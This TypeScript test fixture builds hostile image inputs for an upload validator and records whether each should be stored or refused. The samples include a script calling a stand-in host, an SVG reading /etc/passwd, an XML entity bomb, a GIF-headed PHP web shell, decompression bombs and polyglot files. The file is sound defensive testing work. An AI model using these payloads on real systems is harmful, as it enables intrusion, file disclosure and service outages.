import { randomBytes } from "node:crypto";
import { crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";

/** `either`: stored if the machine is fast enough. */
type Answer = "stored" | "refused" | "either";
export type HostileImage = readonly [name: string, make: () => Buffer | Promise<Buffer>, answer: Answer];

const picture = (width = 300, height = 300) => sharp({ create: { width, height, channels: 3, background: "#aa3311" } });
const jpeg = () => picture().jpeg().toBuffer();
const png = () => picture().png().toBuffer();
const text = (content: string) => () => Buffer.from(content);
const SCRIPT = "<script>fetch('//evil.invalid')</script>";
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">';
function gzipNamedWebp(content: string): Buffer {
  const sums = Buffer.alloc(8);
  sums.writeUInt32LE(crc32(content), 0);
  sums.writeUInt32LE(content.length, 4);
  return Buffer.concat([Buffer.from("\x1f\x8b\x08\x08\0\0\0\0WEBP\0", "latin1"), deflateRawSync(content), sums]);
}
const PNG_SIGNATURE = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");

function pngChunk(kind: string, data: Buffer): Buffer {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  const content = Buffer.concat([Buffer.from(kind), data]);
  sum.writeUInt32BE(crc32(content));
  return Buffer.concat([length, content, sum]);
}

type PngHead = { width: number; height: number; depth?: number; color?: number; interlace?: number };

function pngOf({ width, height, depth = 8, color = 2, interlace = 0 }: PngHead, data: Buffer, before: Buffer[] = []) {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([depth, color, 0, 0, interlace], 8);
  const end = pngChunk("IEND", Buffer.alloc(0));
  return Buffer.concat([PNG_SIGNATURE, pngChunk("IHDR", head), ...before, pngChunk("IDAT", data), end]);
}

/** After the head of a PNG. */
const withChunk = async (chunk: Buffer) => {
  const file = await png();
  return Buffer.concat([file.subarray(0, 33), chunk, file.subarray(33)]);
};

const zeros = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 });
const iccOf = (data: Buffer) => pngChunk("iCCP", Buffer.concat([Buffer.from("icc\0\0"), data]));
const framesOf = (format: "gif" | "webp" | "tiff") => {
  const raw = { width: 300, height: 600, channels: 3 as const, pageHeight: 300 };
  const pixels = Buffer.alloc(raw.width * raw.height * 3);
  return sharp(pixels.fill(200, pixels.length / 2), { raw })
    .toFormat(format)
    .toBuffer();
};
const gifHead = (width: number, height: number) => {
  const head = Buffer.from("GIF89a\0\0\0\0\0\0\0", "latin1");
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  return head;
};
/** A directory whose next directory is itself. */
const endlessTiff = () => Buffer.concat([Buffer.from("II*\0\x08\0\0\0\0\0\x08\0\0\0", "latin1"), Buffer.alloc(400)]);

export const HOSTILE_IMAGES: readonly HostileImage[] = [
  ["nothing", () => Buffer.alloc(0), "refused"],
  ["one byte", () => Buffer.from("\xff", "latin1"), "refused"],
  ["random bytes", () => randomBytes(100_000), "refused"],
  ["zeros", () => Buffer.alloc(1_000_000), "refused"],
  ["HTML with the name of a picture", text(`<!doctype html>${SCRIPT}`), "refused"],
  ["SVG with a script", text(`${SVG}${SCRIPT}</svg>`), "refused"],
  ["SVG after an XML declaration and blanks", text(`  <?xml version="1.0"?>${SVG}</svg>`), "refused"],
  ["SVG that opens a file", text(`${SVG}<image href="file:///etc/passwd"/></svg>`), "refused"],
  [
    "XML with entities that grow",
    text('<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'),
    "refused",
  ],
  ["a compressed SVG", () => gzipSync(`${SVG}</svg>`), "refused"],
  ["SVG after a comment with the signature of AVIF", text(`<!--ftypavif-->${SVG}</svg>`), "refused"],
  ["SVG with the signature of WebP", text(`${SVG.replace("<svg ", '<svg    WEBP="1" ')}</svg>`), "refused"],
  ["a compressed SVG with the signature of WebP", () => gzipNamedWebp(`${SVG}</svg>`), "refused"],
  [
    "JPEG pixels with the signature of a TIFF",
    async () => Buffer.concat([Buffer.from("II*\0", "latin1"), await jpeg()]),
    "refused",
  ],
  ["a PDF", text("%PDF-1.7\n1 0 obj<</Pages 2 0 R>>endobj"), "refused"],
  ["a program", text("\x7fELF\x02\x01\x01"), "refused"],
  ["an archive", text("PK\x03\x04\x14\0\0\0"), "refused"],
  ["a PHP file with the head of a GIF", text("GIF89a<?php system($_GET[0]); ?>"), "refused"],
  ["HTML with the head of a JPEG", () => Buffer.from(`\xff\xd8\xff${SCRIPT}`, "latin1"), "refused"],
  ["a HEIC photo", text("\0\0\0\x18ftypheic\0\0\0\0mif1heic"), "refused"],
  ["a JPEG 2000", () => Buffer.from("\0\0\0\x0cjP  \r\n\x87\n", "latin1"), "refused"],
  ["a JPEG cut off", async () => (await picture(2000, 2000).jpeg().toBuffer()).subarray(0, 3000), "refused"],
  ["a PNG cut off", async () => (await png()).subarray(0, 200), "refused"],
  ["a WebP cut off", async () => (await picture().webp().toBuffer()).subarray(0, 60), "refused"],
  ["an AVIF cut off", async () => (await picture().avif().toBuffer()).subarray(0, 150), "refused"],
  [
    "a PNG of 60,000 × 60,000 pixels",
    () => pngOf({ width: 60_000, height: 60_000, depth: 1, color: 0 }, zeros(1e6)),
    "refused",
  ],
  ["a PNG of no height", () => pngOf({ width: 300, height: 0 }, zeros(1000)), "refused"],
  ["a PNG of the largest numbers", () => pngOf({ width: 2 ** 31 - 1, height: 2 ** 31 - 1 }, zeros(1000)), "refused"],
  ["a GIF that says 65,535 × 65,535", () => Buffer.concat([gifHead(65_535, 65_535), randomBytes(200)]), "refused"],
  [
    "a PNG of 55 million pixels of 16 bits",
    () => pngOf({ width: 7400, height: 7400, depth: 16, color: 6, interlace: 1 }, zeros(7400 * 7400 * 8 + 60_000)),
    "either",
  ],
  [
    "a PNG with a text of 200 MB",
    () => withChunk(pngChunk("zTXt", Buffer.concat([Buffer.from("a\0\0"), zeros(2e8)]))),
    "stored",
  ],
  ["a PNG with a profile of 200 MB", () => withChunk(iccOf(zeros(2e8))), "stored"],
  [
    "a JPEG with a broken profile",
    async () =>
      picture()
        .withIccProfile("p3")
        .jpeg()
        .toBuffer()
        .then((file) => Buffer.from(file.toString("latin1").replace("acsp", "xxxx"), "latin1")),
    "stored",
  ],
  ["an animated GIF", () => framesOf("gif"), "refused"],
  ["an animated WebP", () => framesOf("webp"), "refused"],
  ["an animated PNG", () => withChunk(pngChunk("acTL", Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))), "refused"],
  ["an animated AVIF", text("\0\0\0\x1cftypavis\0\0\0\0avifmif1miaf"), "refused"],
  ["a TIFF of two pages", () => framesOf("tiff"), "refused"],
  ["a TIFF without end", endlessTiff, "refused"],
  ["a JPEG followed by a page", async () => Buffer.concat([await jpeg(), Buffer.from(SCRIPT)]), "stored"],
  [
    "a PNG that is an archive as well",
    async () => Buffer.concat([await png(), Buffer.from("PK\x05\x06"), Buffer.alloc(18)]),
    "stored",
  ],
  [
    "a photo with orientation, place and script in its metadata",
    async () =>
      picture()
        .withMetadata({ orientation: 6 })
        .withExifMerge({ IFD0: { Artist: SCRIPT }, IFD3: { GPSLatitudeRef: "S" } })
        .jpeg()
        .toBuffer(),
    "stored",
  ],
  ["a JPEG in CMYK", () => picture().toColourspace("cmyk").jpeg().toBuffer(), "stored"],
  [
    "a PNG of 16 bits with transparency",
    () =>
      sharp({ create: { width: 300, height: 300, channels: 4, background: "#0008" } })
        .toColourspace("rgb16")
        .png()
        .toBuffer(),
    "stored",
  ],
  ["a black and white TIFF", () => picture().greyscale().tiff({ compression: "lzw" }).toBuffer(), "stored"],
  ["a strip of one pixel", () => picture(1, 8000).png().toBuffer(), "refused"],
];
